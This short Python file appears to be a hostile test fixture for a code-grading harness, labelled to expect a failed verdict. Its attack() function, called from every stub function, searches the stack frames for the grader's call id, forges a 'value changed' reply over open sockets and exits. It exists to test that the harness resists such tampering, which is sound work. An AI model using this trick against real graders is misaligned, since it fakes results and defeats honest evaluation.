# hostile: finds the number of the call in the frames, answers itself and dies
# verdict: failed error crashed
import os
import stat
import struct


def channels():
    """The descriptors that are sockets: one of them leads to the grader."""
    found = []
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found


def send(data):
    for fd in channels():
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view) :]


def frame(header, body=b""):
    return struct.pack(">II", len(header), len(body)) + header + body


def attack():
    import sys

    import msgspec

    here = sys._getframe()
    while here:
        for value in here.f_locals.values():
            if isinstance(value, dict) and isinstance(value.get("id"), int):
                node = ["d", ["value", "changed", "id"], [True, ["t", []], value["id"]]]
                send(frame(msgspec.msgpack.encode(node)))
                os._exit(0)
        here = here.f_back


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
